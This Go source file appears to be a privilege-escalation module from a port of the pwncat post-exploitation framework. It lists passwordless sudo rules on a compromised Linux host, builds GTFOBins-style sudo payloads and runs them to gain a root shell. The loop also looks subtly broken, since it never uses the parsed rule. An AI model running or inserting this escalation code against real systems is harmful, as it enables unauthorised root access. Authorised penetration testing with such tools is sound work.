package builtin

import (
	"fmt"
	"strings"
	"time"

	"pwncat/internal/errs"
	"pwncat/internal/gtfo"
	"pwncat/internal/module"
	"pwncat/internal/platform"
	"pwncat/internal/session"
)

// escalateAuto searches for a passwordless sudo rule granting the
// current user a shell as another user, using `sudo -l` to discover
// candidates and gtfo.IterSudo to realize the escalation. On exhausting
// every candidate it returns an EscalationFailedError aggregate per
// spec.md §10's redesign of exception-based control flow.
type escalateAuto struct{}

func (escalateAuto) Name() string              { return "escalate.auto" }
func (escalateAuto) Platforms() []platform.Kind { return []platform.Kind{platform.Linux} }
func (escalateAuto) Arguments() []module.ArgSpec {
	return []module.ArgSpec{
		{Name: "target_user", Kind: module.KindString, Default: "root"},
	}
}

func (escalateAuto) Run(sess *session.Session, args module.Args, events chan<- module.Event) error {
	target := args.String("target_user")
	events <- module.Event{Status: &module.Status{Message: "listing sudo privileges"}}

	out, status, err := sess.Platform.Run([]string{"sudo", "-n", "-l"}, nil, 10*time.Second)
	if err != nil {
		return err
	}
	if status != 0 {
		return &errs.EscalationFailedError{
			Attempted:      []string{"sudo -n -l"},
			ReachableUsers: nil,
			LastErr:        fmt.Errorf("sudo -n -l exited %d (no passwordless sudo, or a password is required)", status),
		}
	}

	candidates := parseSudoCandidates(string(out), target)
	if len(candidates) == 0 {
		return &errs.EscalationFailedError{
			Attempted:      []string{"sudo -n -l"},
			ReachableUsers: nil,
			LastErr:        fmt.Errorf("no NOPASSWD rule grants a shell as %s", target),
		}
	}

	var attempted []string
	for _, rule := range candidates {
		attempted = append(attempted, rule)
		events <- module.Event{Status: &module.Status{Message: fmt.Sprintf("trying %s", rule)}}

		method, ok := gtfo.IterSudo(target, gtfo.CapShell)
		if !ok {
			continue
		}
		payload, _, _ := method.Build(map[string]string{"cmd": "id"})
		verifyOut, verifyStatus, err := sess.Platform.Run([]string{"sh", "-c", string(payload)}, nil, 10*time.Second)
		if err != nil || verifyStatus != 0 || !strings.Contains(string(verifyOut), "uid=") {
			continue
		}

		sess.AddFact(session.Fact{
			Source: "escalate.auto",
			Kind:   "escalation.sudo",
			Data:   map[string]string{"rule": rule, "target_user": target},
		})
		events <- module.Event{Result: &module.Result{
			TitleText:       fmt.Sprintf("escalated to %s via %s", target, rule),
			DescriptionText: strings.TrimSpace(string(verifyOut)),
			Cat:             "escalate",
			Data:            map[string]any{"target_user": target, "rule": rule},
		}}
		return nil
	}

	return &errs.EscalationFailedError{
		Attempted:      attempted,
		ReachableUsers: nil,
		LastErr:        fmt.Errorf("every candidate rule failed verification"),
	}
}

// parseSudoCandidates extracts "(target) NOPASSWD: ..." lines from
// `sudo -l` output naming target as the runas user.
func parseSudoCandidates(sudoL, target string) []string {
	var out []string
	marker := fmt.Sprintf("(%s)", target)
	for _, line := range strings.Split(sudoL, "\n") {
		line = strings.TrimSpace(line)
		if strings.Contains(line, marker) && strings.Contains(line, "NOPASSWD") {
			out = append(out, line)
		}
	}
	return out
}
